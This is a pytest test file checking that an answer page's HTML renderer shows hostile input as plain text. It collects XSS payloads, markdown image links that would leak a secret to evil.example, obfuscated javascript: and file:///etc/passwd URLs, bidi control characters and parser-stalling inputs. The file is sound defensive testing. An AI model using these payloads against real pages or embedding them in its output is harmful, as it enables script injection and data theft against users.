"""Laws of an answer's HTML: text of models and documents can't act, load, mislead or stall."""

from __future__ import annotations

import cProfile
import pstats
import re

import pytest

from tests.ui.answer_page import Page, page, span
from ui.answer import answer_html


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "a <img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "' onmouseover='alert(1)",
        "${alert(1)} `${1}` \\u003cimg\\u003e",
        "{{value}} {{{value}}} {{#each value}}x{{/each}} {@html x}",
        "</mark></article><h1>",
        "<!-- comment --> <![CDATA[x]]> <?php x ?>",
        "```html\n<script>alert(1)</script>\n```",
        "<details open ontoggle=alert(1)>\n\ntext",
    ],
)
def test_hostile_text_comes_out_as_text(text: str) -> None:
    shown = Page(answer_html(text, [span(text, 0, len(text))], 5))
    assert set(shown.tags) <= {"p", "mark", "code", "pre"}
    for word in re.findall(r"[\w=]+", text.removeprefix("```html")):
        assert word in shown.text


@pytest.mark.parametrize(
    "text",
    [
        "![secret](https://evil.example/?q=secret)",
        "![secret][a]\n\n[a]: https://evil.example/?q=secret",
        "[![secret](https://evil.example/?q=secret)](https://evil.example/)",
        "![](https://evil.example/?q=secret)",
        '<img src="https://evil.example/?q=secret">',
    ],
)
def test_nothing_is_fetched_that_would_tell_a_secret(text: str) -> None:
    shown = page(text)
    assert "img" not in shown.tags
    assert not any("src" in name for _, attrs in shown.elements for name in attrs)


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "javascript&colon;alert(1)",
        "&#106;avascript:alert(1)",
        "\x01javascript:alert(1)",
        "%6Aavascript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "data:image/svg+xml,<svg>",
        "vbscript:x",
        "file:///etc/passwd",
        "//evil.example/x",
        "/room/delete?session=1",
        "?session=1",
        "http:evil.example",
        "https:/evil.example",
        "blob:https://a.b/c",
    ],
)
@pytest.mark.parametrize("form", ["[a]({})", "[a](<{}>)", "<{}>", "[a]: {}\n\n[a]"])
def test_links_lead_to_the_web_or_nowhere(form: str, url: str) -> None:
    assert page(form.format(url)).all("a") == []


@pytest.mark.parametrize("code", [*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0, 7, 27, 0x9B])
def test_characters_that_a_viewer_obeys_are_shown(code: int) -> None:
    text = f"pay {chr(code)}1000 euros"
    assert page(text, "1000").text == "pay \ufffd1000 euros"


@pytest.mark.slow
@pytest.mark.parametrize(
    "text",
    [
        ">" * 10_000,
        "> " * 10_000,
        "[" * 10_000,
        "![" * 10_000,
        "(" * 10_000,
        "[a](" * 5_000,
        "*" * 10_000,
        "*a_ " * 5_000,
        "**a" * 5_000,
        "~~a" * 5_000,
        "`" * 10_000,
        "`a``b" * 2_000,
        "<a:" * 5_000,
        "&" * 10_000,
        "\\" * 10_000,
        "- " * 10_000,
        "1. " * 5_000,
        "|" * 10_000 + "\n" + "|-" * 5_000,
        "|a" * 32 + "\n" + "|-" * 32 + "\n" + "|b\n" * 1_000,
        "```\n" * 5_000,
    ],
    ids=lambda text: text[:6],
)
def test_no_text_takes_long(text: str) -> None:
    """Work is measured in function calls, whose number is the same on every machine."""
    profile = cProfile.Profile()
    shown = profile.runcall(answer_html, text, [span(text, 10, 5_000)], 5)
    Page(shown)
    assert pstats.Stats(profile).total_calls < 5_000_000  # type: ignore[attr-defined]
